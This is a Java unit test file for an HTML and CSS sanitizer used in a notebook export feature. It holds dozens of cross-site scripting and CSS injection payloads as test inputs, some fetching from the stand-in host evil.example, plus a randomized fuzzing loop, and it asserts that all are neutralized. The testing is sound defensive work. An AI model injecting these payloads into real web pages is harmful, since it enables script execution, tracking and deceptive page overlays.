package dev.assay.notebook.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Random;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class SafeHtmlTest {

    /** Ways to run something or to ask the network, many of them from OWASP's "XSS Filter Evasion Cheat Sheet". */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"https://evil.example/pixel.png\" alt=''>",
                "<img srcset='https://evil.example/p.png 2x' src='data:image/png;base64,AAAA'>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"  jAvAsCrIpT&#58;alert(1)\">x</a>",
                "<a href=\"java\tscript:alert(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<svg><use href=\"https://evil.example/x.svg#a\"/><image href='https://evil.example/a.png'/></svg>",
                "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<svg><rect fill='url(https://evil.example/f.svg#a)' width=1 height=1/></svg>",
                "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<div style=\"background:url(https://evil.example/x)\">x</div>",
                "<div style=\"background:u\\72l(https://evil.example/x)\">x</div>",
                "<div style=\"background:url(/**/'//evil.example/x')\">x</div>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<style>@\\69mport 'https://evil.example/x.css';</style>",
                "<style>p{background:image-set('https://evil.example/a.png' 1x)}</style>",
                "<style>p{color:red}</style ><script>alert(1)</script>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<base href=https://evil.example/>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data=javascript:alert(1)></object><embed src=//evil.example>",
                "<form action=https://evil.example><input type=submit><button>x</button></form>",
                "<video src=https://evil.example/v.mp4 onerror=alert(1)></video>",
                "<template><img src=x onerror=alert(1)></template>",
                "<textarea><img src=x onerror=alert(1)></textarea>",
                "<xmp><img src=x onerror=alert(1)></xmp>",
                "<p/onclick=alert(1)>x",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<details open ontoggle=alert(1)>x</details>",
                "<plaintext><script>alert(1)</script>"
            })
    void whatRunsOrFetchesIsGone(String hostile) {
        SafeHtml safe = SafeHtml.of(hostile);
        assertHarmless(safe);
        assertHarmless(SafeHtml.of("<div class=\"x\"><table><tr><td>" + hostile + "</td></tr></table></div>"));
    }

    /** A box over the page, or moved onto another's text, could tell a verdict that is none. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "position:fixed;inset:0",
                "POSITION : absolute; top:0",
                "margin-top:-500px",
                "margin:0 0 -9em",
                "margin-left:calc(0px - 50em)",
                "-webkit-transform:scale(50)",
                "translate:0 -90vh",
                "box-shadow:0 0 0 9999px red",
                "outline:9999px solid red",
                "posi\\74ion:fixed",
                "/**/position:fixed",
                "a:);position:fixed",
                "a:'(';position:fixed",
                "@a{}position:fixed"
            })
    void proseStaysInItsPlace(String style) {
        String markdown = "<div style=\"" + style + ";color:red\">text</div>";
        Element prose = Prose.html(new Piece.Prose(markdown, NamedPictures.none()));
        assertThat(prose.select("div").attr("style")).isIn("color:red", "", "a:);color:red", "a:'(';color:red");
    }

    @Test
    void proseKeepsTheStyleThatStays() {
        String markdown = "<p style=\"text-align:center;margin:1em auto;width:50%\">text</p>";
        assertThat(Prose.html(new Piece.Prose(markdown, NamedPictures.none()))
                        .select("p")
                        .attr("style"))
                .isEqualTo("text-align:center;margin:1em auto;width:50%");
    }

    @Test
    void onPaperOutputsStayInTheirPlaceAndWhatIsOffTheScreenIsNotShown() {
        String html = "<style>.c{position:fixed;top:0} .h{position:absolute;left:-999rem}</style>"
                + "<p class=\"c\">cover</p><a class=\"h\">skip</a><p style=\"position:running(head)\">head</p>";
        String paper = new Paper().markup(new Piece.Markup(SafeHtml.of(html), ""));
        assertThat(paper).contains("cover", "head").doesNotContain("skip");
        assertThat(Jsoup.parse(paper).select("p").eachAttr("style"))
                .hasSize(2)
                .noneMatch(style -> style.matches(".*(position|fixed|running).*"));
    }

    /** However pieces of markup are thrown together, what is left reads back as harmless, also where it nests otherwise. */
    @Test
    void whateverIsThrownTogetherIsHarmless() {
        String[] pieces = {
            "<svg>",
            "</svg>",
            "<math>",
            "<title>",
            "</title>",
            "<style>",
            "</style>",
            "<table>",
            "<td>",
            "<p>",
            "</p>",
            "<desc>",
            "<img src=x onerror=alert(1)>",
            "<script>alert(1)</script>",
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            "\"",
            "'",
            ">",
            "<a id='",
            "<noscript>",
            "</noscript>",
            "<foreignObject>",
            "<textarea>",
            "&lt;img src=x onerror=alert(1)&gt;",
            "<select>",
            "</a>",
            "<form>",
            "<b title=\"<img src=x onerror=alert(1)>\">",
            "text",
            "<mtext>",
            "<template>",
            "</template>",
            "<annotation-xml>"
        };
        Random random = new Random(42);
        for (int i = 0; i < 1500; i++) {
            StringBuilder html = new StringBuilder();
            for (int k = 1 + random.nextInt(12); k > 0; k--) {
                html.append(pieces[random.nextInt(pieces.length)]);
            }
            SafeHtml once = SafeHtml.of(html.toString());
            assertHarmless(once);
            assertHarmless(SafeHtml.of(once.html()));
        }
    }

    @Test
    void ourDisplaysSurvive() {
        SafeHtml safe = SafeHtml.of(
                "<div class=\"assay\">\n<style>\n.assay{--bar: #4a7fb5}\n@media print{.assay *{color:red}}\n</style>"
                        + "<svg class=\"chart\" role=\"img\" width=\"100%\" height=\"50\" viewBox=\"0 0 1 1\" aria-label=\"Shares\"><title>T</title>"
                        + "<defs><pattern id=\"h\" patternUnits=\"userSpaceOnUse\" width=\"6\" height=\"6\"/></defs>"
                        + "<rect x=\"0.000%\" fill=\"url(#h)\" width=\"71%\" height=\"12\" class=\"bar over\"><title>indoor</title></rect></svg>"
                        + "<figure><img loading=\"lazy\" alt=\"a\" src=\"data:image/jpeg;base64,/9j/4A==\"/></figure>"
                        + "<label><input type=\"radio\" name=\"rows\" checked=\"checked\"/><span>0–9</span></label>"
                        + "<details><summary>More</summary><div class=\"scroll\" tabindex=\"0\" role=\"region\">x</div></details></div>");
        assertThat(safe.sheets())
                .hasSize(1)
                .first()
                .asString()
                .startsWith(".assay{--bar")
                .contains("@media print");
        Element body = safe.body();
        assertThat(body.select("div.assay > svg.chart > rect.bar.over > title").text())
                .isEqualTo("indoor");
        assertThat(body.selectXpath("//*[@fill]").attr("fill")).isEqualTo("url(#h)");
        assertThat(body.html())
                .contains("viewBox=\"0 0 1 1\"")
                .contains("patternUnits")
                .contains("data:image/jpeg;base64,/9j/4A==");
        assertThat(body.select("label > input[type=radio][checked]")).hasSize(1);
        assertThat(body.select("details > summary, details > div[role=region]")).hasSize(2);
    }

    @Test
    void aSheetThatReachesOutIsDroppedWhole() {
        assertThat(SafeCss.isSafe(
                        "a::after{content:'\\2191'} b{fill:url(#h)} c{background:url(data:image/png;base64,AA)}"))
                .isTrue();
        assertThat(SafeHtml.of("<style>a{color:red}</style><style>a{background:url(//x)}</style>")
                        .sheets())
                .containsExactly("a{color:red}");
    }

    @Test
    void depthIsBounded() {
        assertThat(SafeHtml.of("<div>".repeat(100_000) + "x").html()).contains("x");
        assertThat(SafeHtml.of("<b><svg>".repeat(20_000) + "x").isEmpty()).isFalse();
    }

    private static void assertHarmless(SafeHtml safe) {
        String html = safe.html();
        Element again = Jsoup.parseBodyFragment(html).body();
        for (Element element : again.getAllElements()) {
            assertThat(element.normalName())
                    .as(html)
                    .isNotIn(
                            "script",
                            "style",
                            "iframe",
                            "object",
                            "embed",
                            "form",
                            "link",
                            "meta",
                            "base",
                            "template",
                            "animate")
                    .isNotIn("video", "use", "image", "foreignobject", "math", "textarea", "noscript", "svg:style");
            for (Attribute attribute : element.attributes()) {
                String value = attribute.getValue().toLowerCase(Locale.ROOT);
                assertThat(attribute.getKey())
                        .as(html)
                        .doesNotStartWith("on")
                        .isNotIn("srcset", "action", "xlink:href");
                if (!attribute.getKey().equals("title")) {
                    assertThat(value).as(html).doesNotContain("javascript:").doesNotContain("evil.example");
                }
            }
        }
        for (String sheet : safe.sheets()) {
            assertThat(sheet).doesNotContain("evil.example").doesNotContain("<");
        }
    }
}
